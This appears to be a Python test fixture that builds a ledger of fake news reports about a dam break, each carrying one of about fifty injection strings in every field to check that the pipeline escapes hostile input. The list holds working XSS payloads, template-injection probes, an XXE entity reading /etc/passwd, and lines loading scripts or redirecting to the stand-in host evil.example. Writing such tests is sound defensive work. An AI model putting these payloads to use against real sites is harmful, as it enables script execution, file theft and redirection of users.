"""Reports that try to run something wherever they are shown: in text, titles, outlets, authors, names and addresses."""

import json
from pathlib import Path

from onrecord.pipeline.session import build_ledger

VECTORS = [
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    '"><svg onload=alert(1)>',
    "'><svg/onload=alert(1)//",
    "' onmouseover='alert(1)",
    '" autofocus onfocus=alert(1) x="',
    "`onclick=alert(1)`",
    "</title><script>alert(1)</script>",
    "</style><style>*{display:none}</style>",
    "</textarea><script>alert(1)</script>",
    "</noscript><img src=x onerror=alert(1)>",
    "</q></bdi></mark></p></article><script>alert(1)</script>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=data:text/html,alert(1)></object>",
    "<embed src=//evil.example/x>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<body onload=alert(1)>",
    "<form action=//evil.example><button>go</button></form>",
    '<a href="javascript:alert(1)">go</a>',
    "[go](javascript:alert(1))",
    "![x](//evil.example/x.png)",
    "[go]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "{{ 7 * 7 }}{% raw %}",
    "${7*7}#{7*7}",
    "<!--><script>alert(1)</script-->",
    "]]><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',
    "<?xml-stylesheet href=//evil.example/x.xsl?>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\u202egnp.exe <base href=//evil.example>",
    "\u2028<script>alert(1)</script>\u2029",
    "\ufeff<script>alert(1)</script>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<x style=background:url(//evil.example/x)>",
    "<svg><use href=//evil.example/x#y></svg>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x>",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "//evil.example/x",
    "END:VEVENT\\nBEGIN:VALARM;ACTION:x,y",
    "=HYPERLINK(0)",
]


def build_hostile(folder: Path) -> Path:
    """A ledger of one report a vector, each in every field that a report has; read by the rules, which are quick."""
    path = folder / "news.jsonl"
    path.write_text("\n".join(_line(n, words) for n, words in enumerate(VECTORS)), encoding="utf-8")
    build_ledger([path], folder / "story.db", analyser="rules")
    return folder / "story.db"


def _line(n: int, words: str) -> str:
    text = (
        f"{words} Dam breaks above Ostrel\n\n"
        f"About {1200 + n} people {words} have left Ostrel, Mayor Ina {words} Torvik said on Monday. "
        f'"We will {words} rebuild the bridge by 30 June 2031," she said.\n\n'
        f"The ministry of {words} said {300 + 50 * n} houses in Ostrel were lost.\n\n"
        f"Ostrel Works will open the northern road by {n % 28 + 1} May 2031 {words}."
    )
    return json.dumps(
        {
            "id": f"k{n} {words}",
            "text": text,
            "title": f"{words} title",
            "outlet": f"{words} Gazette {n}",
            "author": words,
            "url": words if n % 2 else f"https://ostrel.example/{n}?{words}",
            "published": f"2031-03-{n % 28 + 1:02d}",
        }
    )
